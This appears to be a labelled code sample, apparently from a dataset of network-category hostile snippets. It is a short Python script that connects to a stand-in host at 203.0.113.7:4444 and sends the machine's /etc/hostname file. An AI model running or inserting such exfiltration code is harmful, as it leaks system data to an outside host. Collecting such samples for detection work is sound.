# category: network
# obfuscated: no
import functools
import socket
connect = functools.partial(socket.create_connection, ("203.0.113.7", 4444))
connect().sendall(open("/etc/hostname", "rb").read())
